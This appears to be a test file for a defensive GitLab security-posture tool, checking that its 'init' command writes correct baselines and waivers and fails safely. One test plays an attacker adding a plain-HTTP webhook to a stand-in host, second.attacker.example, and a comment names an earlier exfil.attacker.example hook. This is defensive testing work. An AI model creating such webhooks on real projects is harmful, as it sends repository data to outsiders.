// `gitlab-posture init` against the simulator: the written baseline loads, waives exactly the live violations
// (so `check` exits 0), is stable, and nothing is written when a read fails.
import { afterEach, describe, expect, it } from 'vitest';
import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { startSim, type RunningSim } from '../../sim';
import { loadBaseline } from '../../checks/baseline/load';
import { runCli, tempDir } from '../helpers/cli';
import type { CheckResult } from '../../model/result';

let sim: RunningSim | undefined;
afterEach(async () => {
  await sim?.close();
  sim = undefined;
});

const NOW = new Date('2026-11-20T10:00:00Z');
const EXPIRES = '2026-12-20';
// The incident's webhook to exfil.attacker.example on acme/api (sim/scenarios/incident.ts).
const HOOK_ID = '168';

async function init(extra: string[], token = sim!.tokens.owner, now = NOW) {
  const dir = tempDir('posture-init-');
  const output = join(dir, 'baseline.yaml');
  const run = await runCli(['init', '--group', 'acme', '--url', sim!.url, '--output', output, ...extra], { GITLAB_TOKEN: token }, { now });
  return { ...run, dir, output, text: existsSync(output) ? readFileSync(output, 'utf8') : undefined };
}

describe('init on the incident scenario', () => {
  it('--waive-existing: one waiver per violation, the file loads, and check then exits 0', async () => {
    sim = await startSim({ scenario: 'incident' });
    const run = await init(['--profile', 'hardened', '--waive-existing']);
    expect(run.stderr).toBe('');
    expect(run.code).toBe(0);
    expect(run.stdout).toContain('profile hardened, tier ultimate');

    const baseline = loadBaseline(run.output, { now: NOW });
    expect(baseline.profile).toBe('hardened');
    expect(baseline.targets).toEqual({ groups: ['acme'], projects: [], exclude: [] });
    expect(baseline.gitlab.url).toBe(sim.url.replace(/\/$/, ''));
    // The tier is written commented out: detection keeps running unless the user pins it.
    expect(baseline.gitlab.tier).toBeUndefined();
    expect(run.text).toMatch(/^ {2}# tier: ultimate {3}# detected \(.*\); pin it if detection is wrong$/m);

    // One waiver per rule + target + the finding's object or branch (DESIGN.md baseline: a waiver naming them
    // covers only that finding). ci.masked-variables and webhooks.ssl-verification have two findings on one
    // variable / hook each, so 13 findings give 11 waivers; webhooks.allowed-hosts has no allowlist.
    expect(baseline.waivers.map((w) => `${w.rule} ${w.target} object=${w.object ?? '-'} branch=${w.branch ?? '-'}`).sort()).toEqual(
      [
        'ci.masked-variables acme/platform/deploy object=AWS_SECRET_ACCESS_KEY branch=-',
        'ci.public-jobs acme/platform/infra object=- branch=-',
        'git-abuse.download-limit acme object=- branch=-',
        'mr-approvals.author-approval acme/api object=- branch=-',
        'mr-approvals.min-approvals acme/api object=approval rule 126 branch=main',
        'protected-branches.force-push acme/web object=- branch=main',
        'protected-branches.push acme/web object=- branch=main',
        'two-factor.required acme object=- branch=-',
        'visibility.group acme object=- branch=-',
        'visibility.project acme/web object=- branch=-',
        `webhooks.ssl-verification acme/api object=${HOOK_ID} branch=-`,
      ].sort(),
    );
    expect(new Set(baseline.waivers.map((w) => `${w.reason} ${w.expires} ${w.expired}`))).toEqual(new Set([`existing exception, review ${EXPIRES} false`]));
    // Grouped per target so a reviewer reads one block per project, each waiver under the findings it accepts.
    expect(run.text).toContain('  # --- acme/web (project)\n');
    expect(run.text).toMatch(/# {3}Force push is allowed on protected branch main\n(.*\n)*? {2}- rule: protected-branches.force-push/);
    expect(run.all).not.toContain(sim.tokens.owner);

    const check = await runCli(['check', '--baseline', run.output, '--format', 'json'], { GITLAB_TOKEN: sim.tokens.owner }, { now: NOW });
    expect(check.code).toBe(0);
    const result = JSON.parse(check.stdout) as CheckResult;
    expect(result.summary).toMatchObject({ findings: 0, waived: 13, errors: 0, complete: true });
  });

  it('--waive-existing names the hook it waives: a second weak hook on the same project is still reported', async () => {
    sim = await startSim({ scenario: 'incident' });
    const run = await init(['--profile', 'hardened', '--waive-existing']);
    expect(run.code).toBe(0);
    // An attacker adds a second plain-HTTP hook to acme/api after the baseline was written.
    const api = await fetch(`${sim.apiUrl}/projects/${encodeURIComponent('acme/api')}/hooks`, {
      method: 'POST',
      headers: { 'PRIVATE-TOKEN': sim.tokens.owner, 'content-type': 'application/json' },
      body: JSON.stringify({ url: 'http://second.attacker.example/h', push_events: true, enable_ssl_verification: false }),
    });
    expect(api.status).toBe(201);
    const hook = (await api.json()) as { id: number };
    expect(String(hook.id)).not.toBe(HOOK_ID);

    const check = await runCli(['check', '--baseline', run.output, '--format', 'json'], { GITLAB_TOKEN: sim.tokens.owner }, { now: NOW });
    expect(check.code).toBe(1);
    const result = JSON.parse(check.stdout) as CheckResult;
    const open = result.findings.filter((f) => !f.waived);
    expect(open.map((f) => `${f.rule} ${f.target.path} ${f.object}`)).toEqual([
      `webhooks.ssl-verification acme/api ${hook.id}`,
      `webhooks.ssl-verification acme/api ${hook.id}`,
    ]);
    // The first hook's findings stay waived.
    expect(result.findings.filter((f) => f.waived && f.object === HOOK_ID)).toHaveLength(2);
  });

  it('without --waive-existing: no waivers, the violations are listed as a comment, check still finds them', async () => {
    sim = await startSim({ scenario: 'incident' });
    const run = await init(['--profile', 'hardened']);
    expect(run.code).toBe(0);
    const baseline = loadBaseline(run.output, { now: NOW });
    expect(baseline.waivers).toEqual([]);
    expect(run.text).toContain('# Current violations (13 findings; --waive-existing would write 11 waivers):');
    expect(run.text).toContain('#     protected-branches.force-push: Force push is allowed on protected branch main');
    expect(run.stdout).toContain('13 current violation(s) listed as a comment');
    const check = await runCli(['check', '--baseline', run.output, '--format', 'json'], { GITLAB_TOKEN: sim.tokens.owner }, { now: NOW });
    expect(check.code).toBe(1);
  });

  it('is stable: the same live state gives the same text apart from the dates', async () => {
    sim = await startSim({ scenario: 'incident' });
    const a = await init(['--profile', 'hardened', '--waive-existing']);
    const b = await init(['--profile', 'hardened', '--waive-existing'], sim.tokens.owner, new Date('2027-01-05T08:00:00Z'));
    const undated = (t: string | undefined) => t!.replace(/\d{4}-\d{2}-\d{2}/g, 'DATE');
    expect(b.text).not.toEqual(a.text);
    expect(b.text).toContain('expires: "2027-02-04"');
    expect(undated(b.text)).toEqual(undated(a.text));
  });

  it('the baseline profile with the hardened scenario: no violations, a clean file', async () => {
    sim = await startSim({ scenario: 'hardened' });
    const run = await init([]);
    expect(run.code).toBe(0);
    expect(run.text).toContain('profile: baseline ');
    expect(run.text).toContain('waivers: []\n\n# No current violations under this profile.');
    expect(loadBaseline(run.output, { now: NOW }).waivers).toEqual([]);
  });
});

describe('init refuses and fails safely', () => {
  it('does not overwrite an existing file without --force, and contacts nothing', async () => {
    sim = await startSim({ scenario: 'incident' });
    const dir = tempDir('posture-init-');
    const output = join(dir, 'baseline.yaml');
    writeFileSync(output, 'mine\n');
    const run = await runCli(['init', '--group', 'acme', '--url', sim.url, '--output', output], { GITLAB_TOKEN: sim.tokens.owner });
    expect(run.code).toBe(2);
    expect(run.stderr).toContain(`${output} already exists; pass --force`);
    expect(readFileSync(output, 'utf8')).toBe('mine\n');
    expect(sim.totalRequests()).toBe(0);

    const forced = await runCli(['init', '--group', 'acme', '--url', sim.url, '--output', output, '--force'], { GITLAB_TOKEN: sim.tokens.owner });
    expect(forced.code).toBe(0);
    expect(readFileSync(output, 'utf8')).toContain('groups: [acme]');
  });

  it('writes nothing and exits 2 when the group cannot be read', async () => {
    sim = await startSim({ scenario: 'incident' });
    const missing = tempDir('posture-init-');
    const output = join(missing, 'baseline.yaml');
    const r = await runCli(['init', '--group', 'no-such-group', '--url', sim.url, '--output', output], { GITLAB_TOKEN: sim.tokens.owner });
    expect(r.code).toBe(2);
    expect(existsSync(output)).toBe(false);
    expect(r.stderr).toContain('was not written');
    expect(r.stderr).toContain('no-such-group');
  });

  it('writes nothing and exits 2 when some targets are unreadable (a developer token cannot see hooks)', async () => {
    sim = await startSim({ scenario: 'incident' });
    const r = await init(['--waive-existing'], sim.tokens.developer);
    expect(r.code).toBe(2);
    expect(r.text).toBeUndefined();
    expect(r.stderr).toMatch(/\d+ target\(s\) of acme could not be read; .* was not written/);
    expect(r.all).not.toContain(sim.tokens.developer);
  });

  it('needs GITLAB_TOKEN and a URL, and says so', async () => {
    const dir = tempDir('posture-init-');
    const noUrl = await runCli(['init', '--group', 'acme', '--output', join(dir, 'b.yaml')], { GITLAB_TOKEN: 'x' });
    expect(noUrl.code).toBe(2);
    expect(noUrl.stderr).toContain('No GitLab URL');
    const noToken = await runCli(['init', '--group', 'acme', '--url', 'http://127.0.0.1:9', '--output', join(dir, 'b.yaml')], {});
    expect(noToken.code).toBe(2);
    expect(noToken.stderr).toContain('GITLAB_TOKEN is not set');
  });

  it('never writes credentials from the URL into the file', async () => {
    sim = await startSim({ scenario: 'hardened' });
    const withCreds = sim.url.replace('http://', 'http://user:s3cret@');
    const dir = tempDir('posture-init-');
    const output = join(dir, 'baseline.yaml');
    const r = await runCli(['init', '--group', 'acme', '--url', withCreds, '--output', output], { GITLAB_TOKEN: sim.tokens.owner });
    expect(r.code).toBe(2);
    expect(r.stderr).toContain('remove the user name and password from the URL');
    expect(existsSync(output)).toBe(false);
    expect(r.all).not.toContain('s3cret');
    expect(sim.totalRequests()).toBe(0);
  });
});
